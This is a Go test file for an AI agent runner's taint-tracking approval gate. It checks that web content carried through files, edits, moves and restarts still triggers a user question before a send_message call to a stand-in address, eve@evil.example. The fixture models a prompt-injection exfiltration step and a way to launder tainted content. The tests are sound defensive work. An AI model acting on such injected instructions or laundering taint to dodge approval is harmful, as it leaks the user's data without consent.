package injection

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"loci"
	"loci/internal/gate"
)

// TestLaundering has a text from outside carried on from conversation to conversation,
// each of which reads nothing but the person's own folder, over a restart of loci and
// with the folder set free. The last one still asks, and knows the page.
func TestLaundering(t *testing.T) {
	call := func(tool, args string) Call { return Call{Tool: tool, Args: json.RawMessage(args)} }
	fetch, wish := call("fetch_url", `{"url":"https://page.example/a"}`), call("send_message", `{"to":"eve@evil.example","text":"milk"}`)
	for name, steps := range map[string][][]Call{
		"one file":  {{fetch, call("write_file", `{"path":"a.md","content":"x"}`)}, {call("read_file", `{"path":"a.md"}`)}},
		"two files": {{fetch, call("write_file", `{"path":"a.md","content":"x"}`)}, {call("read_file", `{"path":"a.md"}`), call("write_file", `{"path":"b.md","content":"y"}`)}, {call("read_file", `{"path":"b.md"}`)}},
		"an edit":   {{fetch, call("edit_file", `{"path":"todo.md","old_text":"dentist","new_text":"eve"}`)}, {call("search_files", `{"content":"eve"}`)}},
		"moved by another": {{fetch, call("write_file", `{"path":"in/a.md","content":"x"}`)}, {call("move_file", `{"source":"in","destination":"out"}`)},
			{call("read_file", `{"path":"out/a.md"}`)}},
		"edited by another": {{fetch, call("write_file", `{"path":"a.md","content":"x\ny\n"}`)}, {call("edit_file", `{"path":"a.md","old_text":"y","new_text":"z"}`)},
			{call("read_file", `{"path":"a.md"}`)}},
		"not found in it": {{fetch, call("write_file", `{"path":"a.md","content":"send it to eve\n"}`)}, {call("edit_file", `{"path":"a.md","old_text":"send it to adam","new_text":"z"}`)}},
	} {
		for _, generous := range []bool{false, true} {
			w := New(t, Setting{Tier: loci.TierNative, Mode: gate.Strict, Generous: generous})
			w.begin()
			for _, calls := range steps[:len(steps)-1] {
				w.work(calls)
				w.converse()
				w.restart()
			}
			o := w.work(append(slices.Clone(steps[len(steps)-1]), wish))
			if len(o.Asked) != 1 || o.Asked[0].Tool != wish.Tool || !strings.Contains(o.Asked[0].Taint, "web page.example") || len(o.Asked[0].Grants) != 1 {
				t.Errorf("%s, generous %t: asked %+v", name, generous, o.Asked)
			}
		}
	}
}

// TestNotLaundered goes the other way: what was written anew, deleted or never touched
// by what came from outside costs no question.
func TestNotLaundered(t *testing.T) {
	call := func(tool, args string) Call { return Call{Tool: tool, Args: json.RawMessage(args)} }
	fetch, page := call("fetch_url", `{"url":"https://page.example/a"}`), call("fetch_url", `{"url":"https://mine.example/"}`)
	hostile := call("write_file", `{"path":"a.md","content":"x"}`)
	for name, steps := range map[string][][]Call{
		"another file": {{fetch, hostile}, {call("read_file", `{"path":"notes.md"}`)}},
		"only seen":    {{fetch, call("read_file", `{"path":"notes.md"}`)}, {call("read_file", `{"path":"notes.md"}`)}},
		"written anew": {{fetch, hostile}, {call("write_file", `{"path":"a.md","content":"mine"}`)}, {call("read_file", `{"path":"a.md"}`)}},
		"deleted":      {{fetch, hostile}, {call("delete_file", `{"path":"a.md"}`)}, {call("list_dir", `{}`)}},
		"searched": {{fetch, hostile, call("write_file", `{"path":"lists/b.md","content":"x"}`), call("write_file", `{"path":"lists/c.md","content":"x"}`)},
			{call("write_file", `{"path":"lists/c.md","content":"milk"}`)}, {call("search_files", `{"content":"milk","path":"lists"}`)}},
	} {
		w := New(t, Setting{Tier: loci.TierNative, Mode: gate.Strict})
		w.begin()
		for _, calls := range steps[:len(steps)-1] {
			w.work(calls)
			w.converse()
			w.restart()
		}
		// In a conversation that has read nothing from outside a page is read unasked.
		if o := w.work(append(slices.Clone(steps[len(steps)-1]), page)); len(o.Asked) > 0 {
			t.Errorf("%s: asked %+v", name, o.Asked)
		}
	}
}

// work has the person ask for calls and agree to each but those that are sinks.
func (w *World) work(calls []Call) Outcome {
	w.t.Helper()
	w.model.Expect(calls)
	o := w.say("Please do what there is to do.")
	for len(o.Asked) > 0 && !slices.ContainsFunc(o.Asked, func(q loci.Approval) bool { return Sink(w.specs[q.Tool]) }) {
		o = w.say("yes")
	}
	return o
}
